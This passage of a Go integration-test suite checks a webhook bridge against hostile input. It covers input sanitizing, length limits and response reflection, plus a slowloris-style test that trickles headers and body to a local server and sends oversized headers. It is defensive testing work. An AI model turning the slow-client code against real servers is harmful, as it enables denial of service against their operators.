	type storedTarget struct {
		call, field string
		max         int
		code        bool
		req         func(v string) func(time.Time) func() *http.Request
		read        func(Gomega) (string, *metav1.MicroTime)
	}
	user := func(field string) func(string) func(time.Time) func() *http.Request {
		return func(v string) func(time.Time) func() *http.Request { return userWith(field, v, nil) }
	}
	targets := []storedTarget{
		{"tenantSync", "tenantCode", protocol.MaxKitTenantCodeLength, true, func(v string) func(time.Time) func() *http.Request { return tenant("tenantCode", v) },
			readTenant(func(t *tenantryv1alpha1.Tenant) string { return t.TenantCode })},
		{"tenantSync", "name", protocol.MaxKitNameLength, false, func(v string) func(time.Time) func() *http.Request { return tenant("name", v) },
			readTenant(func(t *tenantryv1alpha1.Tenant) string { return t.Name })},
		{"tenantSync", "domainName", protocol.MaxKitDomainLength, false, func(v string) func(time.Time) func() *http.Request { return tenant("domainName", v) },
			readTenant(func(t *tenantryv1alpha1.Tenant) string { return t.DomainName })},
		{"authSync", "userList[].name", protocol.MaxKitNameLength, false, user("name"), readUser(func(u tenantryv1alpha1.DirectoryUser) string { return u.Name })},
		{"authSync", "userList[].orgCode", protocol.MaxKitCodeLength, true, user("orgCode"), readUser(func(u tenantryv1alpha1.DirectoryUser) string { return u.OrgCode })},
		{"authSync", "userList[].role", protocol.MaxKitRoleLength, false, user("role"), readUser(func(u tenantryv1alpha1.DirectoryUser) string { return string(u.Role) })},
		{"authSync", "userList[].mobile", protocol.MaxKitPhoneLength, false, user("mobile"), readUser(func(u tenantryv1alpha1.DirectoryUser) string { return u.Mobile })},
		{"authSync", "userList[].email", protocol.MaxKitEmailLength, false, user("email"), readUser(func(u tenantryv1alpha1.DirectoryUser) string { return u.Email })},
		{"authSync", "userList[].position", protocol.MaxKitNameLength, false, user("position"), readUser(func(u tenantryv1alpha1.DirectoryUser) string { return u.Position })},
		{"authSync", "userList[].employeeCode", protocol.MaxKitEmployeeLength, true, user("employeeCode"), readUser(func(u tenantryv1alpha1.DirectoryUser) string { return u.EmployeeCode })},
		{"authSync", "userList[].employeeType", protocol.MaxKitTypeLength, false, user("employeeType"), readUser(func(u tenantryv1alpha1.DirectoryUser) string { return u.EmployeeType })},
		{"singleOrgSync", "orgName", protocol.MaxKitNameLength, false, func(v string) func(time.Time) func() *http.Request { return single("orgName", v) },
			readOrg(func(o tenantryv1alpha1.DirectoryOrg) string { return o.OrgName })},
		{"singleOrgSync", "parentCode", protocol.MaxKitCodeLength, true, func(v string) func(time.Time) func() *http.Request { return single("parentCode", v) },
			readOrg(func(o tenantryv1alpha1.DirectoryOrg) string { return o.ParentCode })},
		{"allOrgSync", "orgInfoList[].orgName", protocol.MaxKitNameLength, false, func(v string) func(time.Time) func() *http.Request { return all("orgName", v) },
			readOrg(func(o tenantryv1alpha1.DirectoryOrg) string { return o.OrgName })},
		{"allOrgSync", "orgInfoList[].parentCode", protocol.MaxKitCodeLength, true, func(v string) func(time.Time) func() *http.Request { return all("parentCode", v) },
			readOrg(func(o tenantryv1alpha1.DirectoryOrg) string { return o.ParentCode })},
	}
	var cases []storedCase
	echoes := map[string]string{}
	for _, tg := range targets {
		for _, p := range payloads {
			name := tg.call + " " + tg.field + " " + p.name
			cases = append(cases, storedCase{name: name, req: tg.req(p.value), want: p.stored(tg.code, tg.max), max: tg.max, code: tg.code, read: tg.read})
			echoes[name] = p.value
		}
	}
	// enable is only stored too: anything but true/"true"/1/"1" is false, never a refusal. Each
	// row starts from an enabled user, so a call that was not applied cannot pass.
	readEnabled := readUser(func(u tenantryv1alpha1.DirectoryUser) string { return strconv.FormatBool(u.Enabled) })
	for _, p := range payloads {
		name := "authSync userList[].enable " + p.name
		cases = append(cases,
			storedCase{name: name + " (enabled before)", req: userWith("", nil, nil), want: "true", max: 5, read: readEnabled},
			storedCase{name: name, req: userWith("enable", p.value, nil), want: "false", max: 5, read: readEnabled})
		echoes[name] = p.value
	}
	// currentSyncTime is read and kept nowhere: the call is applied and the value is in no shard.
	for _, p := range payloads {
		name := "authSync currentSyncTime " + p.name
		cases = append(cases, storedCase{name: name, req: userWith("", nil, map[string]any{"currentSyncTime": p.value}), want: "Mallory", max: protocol.MaxKitNameLength,
			read: readUser(func(u tenantryv1alpha1.DirectoryUser) string { return u.Name }),
			notIn: func(g Gomega) []byte {
				b, err := json.Marshal(shards(g, f.id))
				g.Expect(err).NotTo(HaveOccurred())
				return b
			}})
		echoes[name] = p.value
	}
	return cases, echoes
}

// runStored sends each stored case at a fresh kit time and checks that it was answered 000000,
// applied (the entry records the call's time), stored clean and cut to its bound, that the answer
// does not reflect the value, and that nothing but the instance, its directory shards and Events
// changed.
func runStored(t *testing.T, id string, cases []storedCase, echoes map[string]string) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			before := worldSnapshot(g)
			ts := nextKitTime()
			a := sendRaw(g, tc.req(ts)())
			answeredWith(g, a, protocol.CodeSuccess)
			if echo, ok := echoes[tc.name]; ok {
				escaped := bytes.Trim(protocol.EncodeResponse(echo), `"`)
				g.Expect(bytes.Contains(a.raw, escaped)).To(BeFalse(), "the answer reflects the input: %s", a.raw)
			}
			got, syncedAt := tc.read(g)
			g.Expect(got).To(Equal(tc.want), "stored value")
			g.Expect(utf8.RuneCountInString(got)).To(BeNumerically("<=", tc.max), "stored value within its bound")
			for _, c := range got {
				g.Expect(unicode.IsControl(c) || c == '\u2028' || c == '\u2029' || isBidi(c) || (tc.code && unicode.Is(unicode.Cf, c))).
					To(BeFalse(), "stored value %q keeps %U", got, c)
			}
			if syncedAt != nil {
				g.Expect(syncedAt.Time.Equal(ts)).To(BeTrue(), "the entry records the call's time %s, not %s: the call was applied", ts, syncedAt.Time)
			}
			if tc.notIn != nil {
				if echo := echoes[tc.name]; echo != "" {
					v, err := json.Marshal(echo)
					g.Expect(err).NotTo(HaveOccurred())
					g.Expect(bytes.Contains(tc.notIn(g), bytes.Trim(v, `"`))).To(BeFalse(), "the value is kept")
				}
			}
			after := worldSnapshot(g)
			for k := range mergedKeys(before, after) {
				if before[k] != after[k] {
					g.Expect(changeAllowed(k, id)).To(BeTrue(), "%s changed", k)
				}
			}
		})
	}
}

// isBidi reports the bidirectional embedding, override and isolate controls.
func isBidi(c rune) bool {
	return c >= '\u202a' && c <= '\u202e' || c >= '\u2066' && c <= '\u2069'
}

func mergedKeys(a, b map[string]string) map[string]bool {
	out := map[string]bool{}
	for k := range a {
		out[k] = true
	}
	for k := range b {
		out[k] = true
	}
	return out
}

// changeAllowed says whether a real kit call about instance id may change the worldSnapshot entry
// k: the instance itself, its directory shards, and Events.
func changeAllowed(k, id string) bool {
	switch {
	case k == "v1alpha1.TenantInstanceList//"+id, k == "recorded events",
		strings.HasPrefix(k, "v1alpha1.TenantDirectoryList//"+id+"-"),
		strings.HasPrefix(k, "v1.EventList/"):
		return true
	}
	return false
}

// ---- slow clients, on the binary's own HTTP server settings ----

// gatedHandler lets a test know when a request with the header X-Test-Slow has reached the bridge.
type gatedHandler struct {
	h       http.Handler
	entered chan struct{}
	once    sync.Once
}

func (g *gatedHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("X-Test-Slow") != "" {
		g.once.Do(func() { close(g.entered) })
	}
	g.h.ServeHTTP(w, r)
}

// TestHostileSlowClients runs a bridge behind webhookbridge.NewHTTPServer with the binary's
// default limits and shows that a client trickling its headers or body in is cut off by the
// configured timeout without a single byte of answer, that meanwhile it holds no call slot, and
// that an oversized header block is refused at the transport level.
func TestHostileSlowClients(t *testing.T) {
	integration(t)
	g := NewWithT(t)
	s, err := webhookbridge.New(func() webhookbridge.Options {
		o := bridgeOptions(k8s)
		o.MaxInFlight = 1 // one slow client could take the only slot if it were given one
		return o
	}())
	g.Expect(err).NotTo(HaveOccurred())
	gate := &gatedHandler{h: s.Handler(), entered: make(chan struct{})}
	srv := webhookbridge.NewHTTPServer("127.0.0.1:0", gate, webhookbridge.HTTPLimits{})
	g.Expect(srv.ReadHeaderTimeout).To(Equal(webhookbridge.DefaultReadHeaderTimeout))
	g.Expect(srv.ReadTimeout).To(Equal(webhookbridge.DefaultReadTimeout))
	l, err := net.Listen("tcp", "127.0.0.1:0")
	g.Expect(err).NotTo(HaveOccurred())
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { _ = srv.Close() })
	base := "http://" + l.Addr().String() + webhookbridge.DefaultPath
	before := worldSnapshot(g)

	// Trailing blanks keep the canonical payload, and so the signature, and make the body take
	// far longer to trickle in than the server's ReadTimeout.
	body := append(jsonBody(map[string]any{"activity": "releaseInstance", "instanceId": unknownID}), bytes.Repeat([]byte(" "), 100)...)
	q := signed(body, nowMillis())
	head := "POST " + webhookbridge.DefaultPath + "?" + q.Encode() + " HTTP/1.1\r\nHost: bridge\r\nContent-Type: application/json\r\n"

	type result struct {
		got     []byte
		err     error
		elapsed time.Duration
	}
	slow := func(opening, trickle string, limit time.Duration) <-chan result {
		out := make(chan result, 1)
		go func() {
			conn, err := net.Dial("tcp", l.Addr().String())
			if err != nil {
				out <- result{err: err}
				return
			}
			defer func() { _ = conn.Close() }()
			start := time.Now()
			if _, err := io.WriteString(conn, opening); err != nil {
				out <- result{err: err}
				return
			}
			stop := make(chan struct{})
			defer close(stop)
			go func() {
				tick := time.NewTicker(200 * time.Millisecond)
				defer tick.Stop()
				for i := 0; i < len(trickle); i++ {
					select {
					case <-stop:
						return
					case <-tick.C:
					}
					if _, err := conn.Write([]byte{trickle[i]}); err != nil {
						return
					}
				}
			}()
			// The client would keep trickling for minutes; the server must hang up long
			// before, at its limit.
			_ = conn.SetReadDeadline(start.Add(limit + 5*time.Second))
			got, err := io.ReadAll(bufio.NewReader(conn))
			out <- result{got: got, err: err, elapsed: time.Since(start)}
		}()
		return out
	}
	headers := slow(head, "X-Padding: "+strings.Repeat("a", 1000), srv.ReadHeaderTimeout)
	bodyDone := slow(head+"X-Test-Slow: 1\r\nContent-Length: "+strconv.Itoa(len(body))+"\r\n\r\n", string(body), srv.ReadTimeout)

	// While the slow body's handler waits for the rest of it, a real call gets through: with
	// MaxInFlight 1, a slot held by the slow body would shed it (000005).
	select {
	case <-gate.entered:
	case <-time.After(time.Minute):
		t.Fatal("the slow body never reached the bridge")
	}
	a, err := marketFor(t, base).Release(context.Background(), unknownID)
	expectCode(g, a, err, protocol.CodeSuccess)

	for _, tc := range []struct {
		name  string
		done  <-chan result
		limit time.Duration
	}{
		{"slow headers", headers, srv.ReadHeaderTimeout},
		{"slow body", bodyDone, srv.ReadTimeout},
	} {
		r := <-tc.done
		var netErr net.Error
		g.Expect(errors.As(r.err, &netErr) && netErr.Timeout()).To(BeFalse(), "%s: the server kept the connection open past %s", tc.name, tc.limit)
		g.Expect(r.got).To(BeEmpty(), "%s: nothing is answered to a slow client", tc.name)
		g.Expect(r.elapsed).To(BeNumerically(">=", tc.limit-time.Second), "%s: cut by the configured timeout, not by an error (%v)", tc.name, r.err)
	}

	// A header block over MaxHeaderBytes is refused by the server before the bridge sees it
	// (twice the cap: the server allows a few KiB of buffering slop).
	req := post(base+"?"+signed(body, nowMillis()).Encode(), body, http.Header{"X-Padding": {strings.Repeat("a", 2*webhookbridge.DefaultMaxHeaderBytes)}})
	resp, err := http.DefaultClient.Do(req)
	g.Expect(err).NotTo(HaveOccurred())
	_ = resp.Body.Close()
	g.Expect(resp.StatusCode).To(Equal(http.StatusRequestHeaderFieldsTooLarge))

	g.Expect(worldSnapshot(g)).To(Equal(before), "nothing changed")
}
